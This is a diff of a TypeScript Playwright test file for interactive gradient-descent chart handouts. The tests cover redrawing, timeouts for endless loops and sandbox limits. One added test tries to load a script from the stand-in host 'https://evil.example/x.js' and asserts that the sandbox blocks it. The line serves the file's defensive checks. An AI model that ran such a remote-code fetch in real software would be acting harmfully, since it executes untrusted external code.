@@ -5,36 +5,17 @@ import { join } from "node:path";
 import { after, before, describe, it } from "node:test";
 import { pathToFileURL } from "node:url";
 import type { Page } from "playwright-core";
-import { liveFigures } from "../../handout/figures";
-import { handout } from "../../handout/handout";
-import { page as pageOf } from "../../handout/page";
-import * as descent from "../../lib/index";
-import { explore, menu, random, slider, toggle } from "../../lib/index";
+import { explore, slider } from "../../lib/index";
 import { withPage } from "../browser";
-import { explored, ranNotebook } from "./explorations";
+import { livePage, race, raced } from "./explorations";
 
-/** Noisy points on a plane, the same bits on each machine. */
-function points(rows: number) {
-  const noise = random(1);
-  const x = Array.from({ length: rows }, () => [noise.normal(), noise.normal()]);
-  return descent.dataset(
-    { columns: ["a", "b", "y"], values: x.map(([a, b]) => [a, b, 3 * a - b + noise.normal()]) },
-    { features: ["a", "b"], target: "y" },
-  );
-}
-
-const race = explore(
-  { learningRate: slider(0.001, 1, { scale: "log", value: 0.01 }), method: menu(["adam", "sgd"]), twice: toggle() },
-  { points: points(60) },
-  (descent, { learningRate, method, twice }, { points }) => {
-    const optimizers = [descent[method]({ learningRate }), descent.rmsprop({ learningRate })];
-    const epochs = twice ? 40 : 20;
-    const raced = descent.compare({ model: descent.LinearRegression, optimizers, data: points, epochs, seeds: [0] });
-    return descent.lossCurves(raced, { axis: "log" });
-  },
-);
 const failing = explore({ rate: slider(0, 10) }, null, (descent, { rate }) => {
   if (rate === 5) throw new RangeError("it diverged <b>at step 3</b>");
+  return descent.lossCurves({ A: [rate, 1] });
+});
+
+const endless = explore({ rate: slider(0, 10) }, null, (descent, { rate }) => {
+  while (rate === 5);
   return descent.lossCurves({ A: [rate, 1] });
 });
 
@@ -47,12 +28,13 @@ after(() => rmSync(folder, { recursive: true }));
 /** Opens the handout of some explorations as a double click does, and finds that it asked nobody and complained of nothing. */
 function opened(explorations: readonly object[], use: (page: Page) => Promise<void>, hash = ""): Promise<void> {
   const file = join(folder, "page.html");
-  const made = handout(ranNotebook(explorations.map(explored)));
-  writeFileSync(file, pageOf(liveFigures(made), { version: "1", command: "npm run handouts", data: [] }));
+  writeFileSync(file, livePage(explorations));
   return withPage(async (page) => {
     const heard: string[] = [];
     const { href } = pathToFileURL(file);
-    page.on("request", (request) => request.url().startsWith(href) || heard.push(request.url()));
+    // The worker is a part of the page, under an address that leads nowhere else.
+    const isOwn = (url: string) => url.startsWith(href) || url.startsWith("blob:null/");
+    page.on("request", (request) => isOwn(request.url()) || heard.push(request.url()));
     page.on("console", (message) => heard.push(message.text()));
     page.on("pageerror", (error) => heard.push(error.message));
     await page.goto(href + hash);
@@ -63,30 +45,26 @@ function opened(explorations: readonly object[], use: (page: Page) => Promise<vo
 
 const drawn = (page: Page, index = 0) =>
   page.evaluate(`JSON.stringify(document.querySelectorAll(".chart")[${index}].data.map(({ y }) => y))`);
-const lines = (values: Parameters<typeof race.draw>[1]) =>
-  JSON.stringify(race.draw(descent, values, race.data).data.map(({ y }) => y));
-
 /** Puts a slider to one of its places as a person's hand does. */
 const put = (page: Page, name: string, place: number) => page.locator(`input[name=${name}]`).fill(String(place));
-const waitForDrawing = (page: Page) =>
-  page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))");
+const waitForDrawing = (page: Page) => page.locator("figure:not([aria-busy])").first().waitFor();
 
 describe("controls in a handout", () => {
   it("draw what Node draws, bit for bit: as it was built, at the same values again, and at others", async () => {
     await opened([race], async (page) => {
       const [start, { values }] = [race.controls.learningRate.index, race.controls.learningRate];
-      const first = lines({ learningRate: values[start], method: "adam", twice: false });
+      const first = raced({ learningRate: values[start], method: "adam", twice: false });
       assert.equal(await drawn(page), first);
       await put(page, "learningRate", 100);
       await waitForDrawing(page);
-      assert.equal(await drawn(page), lines({ learningRate: values[100], method: "adam", twice: false }));
+      assert.equal(await drawn(page), raced({ learningRate: values[100], method: "adam", twice: false }));
       await put(page, "learningRate", start);
       await waitForDrawing(page);
       assert.equal(await drawn(page), first);
       await page.locator("select").selectOption("sgd");
       await page.locator("input[type=checkbox]").check();
       await waitForDrawing(page);
-      assert.equal(await drawn(page), lines({ learningRate: values[start], method: "sgd", twice: true }));
+      assert.equal(await drawn(page), raced({ learningRate: values[start], method: "sgd", twice: true }));
       assert.match(String(await page.locator("figcaption").textContent()), /SGD/);
     });
   });
@@ -100,20 +78,48 @@ describe("controls in a handout", () => {
     });
   });
 
-  it("draw the newest value only, once a picture of the screen", async () => {
-    await opened([race], async (page) => {
-      const count = await page.evaluate(`new Promise((done) => {
-        let count = 0;
+  it("draw the newest value, and of those that came too fast none", async () => {
+    await opened([failing], async (page) => {
+      const seen = await page.evaluate(`new Promise((done) => {
+        const seen = [];
         const { show } = descentFigures;
-        descentFigures.show = (...all) => { count++; show(...all); };
+        descentFigures.show = (place, figure) => {
+          show(place, figure);
+          seen.push(figure.data[0].y[0]);
+          if (seen.at(-1) === 9) done(seen);
+        };
         const input = document.querySelector("input[type=range]");
-        for (const place of [3, 5, 7]) {
+        for (const place of [4, 6, 7, 8, 9]) {
           input.value = place;
           input.dispatchEvent(new Event("input", { bubbles: true }));
         }
-        requestAnimationFrame(() => requestAnimationFrame(() => done(count)));
       })`);
-      assert.equal(count, 1);
+      assert.ok(["[9]", "[4,9]"].includes(JSON.stringify(seen)), JSON.stringify(seen));
+    });
+  });
+
+  it("move the lines alone where nothing else changes, and draw the whole figure when the slider rests", async () => {
+    await opened([race], async (page) => {
+      const { values } = race.controls.learningRate;
+      await put(page, "learningRate", 40);
+      await waitForDrawing(page);
+      await page.evaluate(`{
+        const { react } = Plotly;
+        Plotly.react = (...all) => {
+          document.body.classList.add("whole");
+          return react(...all);
+        };
+      }`);
+      await put(page, "learningRate", 42);
+      await waitForDrawing(page);
+      assert.equal(await drawn(page), raced({ learningRate: values[42], method: "adam", twice: false }));
+      assert.equal(await page.locator("body.whole").count(), 0);
+      assert.equal(await page.locator(".legendtext").first().textContent(), `Adam (η = ${values[42]})`);
+      const path = () => page.locator(".js-line").first().getAttribute("d");
+      const moved = await path();
+      await page.locator("body.whole").waitFor();
+      assert.equal(await path(), moved);
+      assert.equal(await drawn(page), raced({ learningRate: values[42], method: "adam", twice: false }));
     });
   });
 
@@ -172,16 +178,50 @@ describe("controls in a handout", () => {
     });
   });
 
-  it("stop a loop that does not end where the kernel has put its guard", async () => {
-    const output = explored(failing);
-    const data = output.data as Record<string, { draw: string }>;
-    data["application/vnd.descent.explore+json"].draw =
-      "() => { while (true) { if ((++$turn & 1023) === 0) $cell.check(); } }";
-    const endless = { [Symbol.for("Jupyter.display")]: () => data };
+  it("end a computation that does not end, while the page answers", async () => {
     await opened([endless], async (page) => {
-      await page.evaluate("{ let now = 0; performance.now = () => (now += 1000); }");
-      await put(page, "rate", 4);
+      await page.evaluate("{ const wait = setTimeout; setTimeout = (then, time) => wait(then, time / 20); }");
+      await put(page, "rate", 5);
+      assert.equal(await page.locator("output").textContent(), "5");
       await page.getByText("It takes longer than ten seconds.").waitFor();
+      await put(page, "rate", 6);
+      await waitForDrawing(page);
+      assert.equal(await drawn(page), "[[6,1]]");
+    });
+  });
+
+  it("leave a long computation for a newer value", async () => {
+    await opened([endless], async (page) => {
+      await put(page, "rate", 5);
+      await page.evaluate("{ const now = performance.now(); performance.now = () => now + 2000; }");
+      await put(page, "rate", 6);
+      await waitForDrawing(page);
+      assert.equal(await drawn(page), "[[6,1]]");
+    });
+  });
+
+  it("compute in WebAssembly, and can neither make code of a text nor ask anybody", async () => {
+    const probe = explore({ rate: slider(0, 10) }, null, (descent) => {
+      const attempts: readonly (readonly [string, () => unknown])[] = [
+        ["WebAssembly", () => new WebAssembly.Module(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))],
+        ["eval", () => Function("return 1")],
+        ["import", () => Reflect.get(globalThis, "importScripts")("https://evil.example/x.js")],
+      ];
+      const found = attempts.map(([name, attempt]) => {
+        try {
+          attempt();
+          return name;
+        } catch {
+          return `no ${name}`;
+        }
+      });
+      return descent.lossCurves({ [found.join(", ")]: [2, 1] });
+    });
+    await opened([probe], async (page) => {
+      await put(page, "rate", 4);
+      await waitForDrawing(page);
+      const name = await page.evaluate("document.querySelector('.chart').data[0].name");
+      assert.equal(name, "WebAssembly, no eval, no import");
     });
   });
 
